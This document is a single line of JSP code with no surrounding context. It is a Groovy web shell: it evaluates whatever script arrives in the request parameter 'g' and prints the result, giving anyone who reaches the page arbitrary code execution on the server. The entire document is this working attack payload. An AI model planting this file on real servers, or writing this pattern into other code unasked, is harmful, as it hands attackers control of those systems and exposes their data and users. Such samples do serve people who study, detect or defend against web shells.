<% out.print(new groovy.lang.GroovyShell().evaluate(request.getParameter("g"))); %>
